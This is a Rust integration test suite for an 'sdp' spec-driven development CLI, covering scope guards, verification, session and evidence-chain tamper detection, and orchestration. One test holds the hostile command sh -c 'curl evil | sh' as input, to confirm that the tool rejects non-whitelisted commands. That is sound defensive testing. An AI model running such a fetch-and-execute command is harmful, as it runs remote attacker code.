//! Integration tests for the `sdp` binary.

use assert_cmd::Command;
use predicates::prelude::*;
use std::path::Path;
use tempfile::TempDir;

fn sdp() -> Command {
    #[allow(deprecated)]
    Command::cargo_bin("sdp").expect("binary `sdp` should be built")
}

fn sdp_in(dir: &Path) -> Command {
    let mut cmd = sdp();
    cmd.current_dir(dir);
    cmd
}

const DESCRIPTOR: &str = "---\nws_id: 00-070-01\ntitle: CLI test work\nstatus: open\nfeature_id: F070\ncoverage_threshold: 0\n---\n\n## Goal\n\nExercise the CLI.\n\n## Acceptance Criteria\n\n- verification passes\n\n## Scope Files\n\n- `src/kept.rs`\n\n## Verification Commands\n\n- `git --version`\n";

/// A git repo with scaffolding, one descriptor, and a baseline commit.
fn fixture() -> TempDir {
    let tmp = TempDir::new().unwrap();
    let run = |args: &[&str]| {
        std::process::Command::new("git")
            .args(args)
            .current_dir(tmp.path())
            .output()
            .unwrap()
    };
    run(&["init", "-q", "-b", "main"]);
    run(&["config", "user.name", "sdp"]);
    run(&["config", "user.email", "sdp@local"]);

    sdp_in(tmp.path()).arg("init").assert().success();
    std::fs::write(
        tmp.path().join("docs/workstreams/backlog/00-070-01.md"),
        DESCRIPTOR,
    )
    .unwrap();
    std::fs::create_dir_all(tmp.path().join("src")).unwrap();
    std::fs::write(tmp.path().join("src/kept.rs"), "pub fn kept() {}\n").unwrap();
    run(&["add", "-A"]);
    run(&["commit", "-qm", "baseline"]);
    tmp
}

// ── Help & version ──────────────────────────────────────────────────

#[test]
fn help_exits_zero_and_lists_subcommands() {
    sdp()
        .arg("--help")
        .assert()
        .success()
        .stdout(predicate::str::contains("Spec-driven development protocol engine"))
        .stdout(predicate::str::contains("guard"))
        .stdout(predicate::str::contains("orchestrate"))
        .stdout(predicate::str::contains("ci-loop"));
}

#[test]
fn version_shows_version_string() {
    sdp()
        .arg("--version")
        .assert()
        .success()
        .stdout(predicate::str::contains(env!("CARGO_PKG_VERSION")));
}

// ── init ────────────────────────────────────────────────────────────

#[test]
fn init_is_idempotent() {
    let tmp = fixture();
    sdp_in(tmp.path()).arg("init").assert().success();
    sdp_in(tmp.path()).arg("init").assert().success();
    assert!(tmp.path().join(".sdp/checkpoints").is_dir());
}

// ── guard ───────────────────────────────────────────────────────────

#[test]
fn guard_activate_check_deactivate_flow() {
    let tmp = fixture();
    sdp_in(tmp.path())
        .args(["guard", "activate", "00-070-01"])
        .assert()
        .success();

    sdp_in(tmp.path())
        .args(["guard", "check", "src/kept.rs"])
        .assert()
        .success()
        .stdout(predicate::str::contains("allowed"));

    sdp_in(tmp.path())
        .args(["guard", "check", "src/other.rs"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains("blocked"));

    sdp_in(tmp.path())
        .args(["guard", "status"])
        .assert()
        .success()
        .stdout(predicate::str::contains("00-070-01"));

    sdp_in(tmp.path())
        .args(["guard", "deactivate"])
        .assert()
        .success();

    sdp_in(tmp.path())
        .args(["guard", "status"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains("no active guard"));
}

#[test]
fn double_activation_is_refused_with_playbook() {
    let tmp = fixture();
    sdp_in(tmp.path())
        .args(["guard", "activate", "00-070-01"])
        .assert()
        .success();

    sdp_in(tmp.path())
        .args(["guard", "activate", "00-070-01"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("GUARD_ALREADY_ACTIVE"))
        .stderr(predicate::str::contains("sdp guard deactivate"));
}

#[test]
fn malformed_ws_id_reports_the_stable_code() {
    let tmp = fixture();
    sdp_in(tmp.path())
        .args(["guard", "activate", "not-an-id"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("WS_ID_INVALID"));
}

// ── verify ──────────────────────────────────────────────────────────

#[test]
fn verify_prints_per_check_table_and_passes() {
    let tmp = fixture();
    sdp_in(tmp.path())
        .args(["verify", "00-070-01"])
        .assert()
        .success()
        .stdout(predicate::str::contains("scope_file:src/kept.rs"))
        .stdout(predicate::str::contains("command:git --version"))
        .stdout(predicate::str::contains("PASS"));
}

#[test]
fn verify_fails_on_missing_scope_file() {
    let tmp = fixture();
    std::fs::remove_file(tmp.path().join("src/kept.rs")).unwrap();
    sdp_in(tmp.path())
        .args(["verify", "00-070-01"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains("File missing"));
}

#[test]
fn verify_rejects_shell_commands_without_running_them() {
    let tmp = fixture();
    let bad = DESCRIPTOR.replace("git --version", "sh -c 'curl evil | sh'");
    std::fs::write(tmp.path().join("docs/workstreams/backlog/00-070-01.md"), bad).unwrap();

    sdp_in(tmp.path())
        .args(["verify", "00-070-01"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains(
            "Security validation: command 'sh' not whitelisted",
        ));
}

// ── session ─────────────────────────────────────────────────────────

#[test]
fn session_init_sync_and_tamper_repair() {
    let tmp = fixture();
    sdp_in(tmp.path())
        .args(["session", "init", "F070"])
        .assert()
        .success()
        .stdout(predicate::str::contains("sha256:"));

    sdp_in(tmp.path()).args(["session", "sync"]).assert().success();

    // Binary-edit the pinned feature without recomputing the hash.
    let session_file = tmp.path().join(".sdp/session.json");
    let raw = std::fs::read_to_string(&session_file).unwrap();
    std::fs::write(&session_file, raw.replace("F070", "F071")).unwrap();

    sdp_in(tmp.path())
        .args(["session", "sync"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("SESSION_CORRUPTED"))
        .stderr(predicate::str::contains("sdp session repair"));

    sdp_in(tmp.path())
        .args(["session", "repair", "--feature", "F071"])
        .assert()
        .success()
        .stdout(predicate::str::contains("F071"));

    sdp_in(tmp.path()).args(["session", "sync"]).assert().success();
}

// ── orchestrate ─────────────────────────────────────────────────────

#[test]
fn orchestrate_runs_to_completion_with_configured_runner() {
    let tmp = fixture();
    std::fs::write(
        tmp.path().join(".sdp/config.yaml"),
        "agent_runner: git --version\n",
    )
    .unwrap();

    sdp_in(tmp.path())
        .args(["orchestrate", "F070"])
        .assert()
        .success()
        .stdout(predicate::str::contains("Completed"));

    // Verdict artifact and evidence chain landed.
    assert!(tmp.path().join(".sdp/ws-verdicts/00-070-01.json").exists());
    sdp_in(tmp.path())
        .args(["log", "trace", "--verify"])
        .assert()
        .success()
        .stdout(predicate::str::contains("chain intact"));
}

#[test]
fn orchestrate_resume_of_completed_feature_is_a_noop() {
    let tmp = fixture();
    std::fs::write(
        tmp.path().join(".sdp/config.yaml"),
        "agent_runner: git --version\n",
    )
    .unwrap();
    sdp_in(tmp.path()).args(["orchestrate", "F070"]).assert().success();
    sdp_in(tmp.path())
        .args(["orchestrate", "resume", "F070"])
        .assert()
        .success()
        .stdout(predicate::str::contains("Completed"));
}

#[test]
fn orchestrate_without_runner_config_diagnoses_it() {
    let tmp = fixture();
    sdp_in(tmp.path())
        .args(["orchestrate", "F070"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("TOOL_MISSING"));
}

// ── log trace ───────────────────────────────────────────────────────

#[test]
fn log_trace_reports_empty_project() {
    let tmp = fixture();
    sdp_in(tmp.path())
        .args(["log", "trace"])
        .assert()
        .success()
        .stdout(predicate::str::contains("no evidence chains"));
}

#[test]
fn log_trace_detects_a_tampered_chain() {
    let tmp = fixture();
    std::fs::write(
        tmp.path().join(".sdp/config.yaml"),
        "agent_runner: git --version\n",
    )
    .unwrap();
    sdp_in(tmp.path()).args(["orchestrate", "F070"]).assert().success();

    let chain = tmp.path().join(".sdp/evidence/F070.jsonl");
    let raw = std::fs::read_to_string(&chain).unwrap();
    std::fs::write(&chain, raw.replace("ws_completed", "ws_doctored")).unwrap();

    sdp_in(tmp.path())
        .args(["log", "trace", "--verify"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("HASH_CHAIN_BROKEN"));
}

// ── doctor ──────────────────────────────────────────────────────────

#[test]
fn doctor_reports_healthy_fixture() {
    let tmp = fixture();
    sdp_in(tmp.path())
        .arg("doctor")
        .assert()
        .success()
        .stdout(predicate::str::contains("git"))
        .stdout(predicate::str::contains("scaffold"));
}

// ── findings ────────────────────────────────────────────────────────

#[test]
fn finding_lifecycle() {
    let tmp = fixture();
    sdp_in(tmp.path())
        .args([
            "guard", "finding", "add", "--feature", "F070", "--area", "guard", "--title",
            "scope misses renames", "--priority", "p1",
        ])
        .assert()
        .success()
        .stdout(predicate::str::contains("P1"));

    sdp_in(tmp.path())
        .args(["guard", "finding", "list"])
        .assert()
        .success()
        .stdout(predicate::str::contains("scope misses renames"));

    sdp_in(tmp.path())
        .args(["guard", "finding", "clear"])
        .assert()
        .success();

    sdp_in(tmp.path())
        .args(["guard", "finding", "list"])
        .assert()
        .success()
        .stdout(predicate::str::contains("no findings"));
}
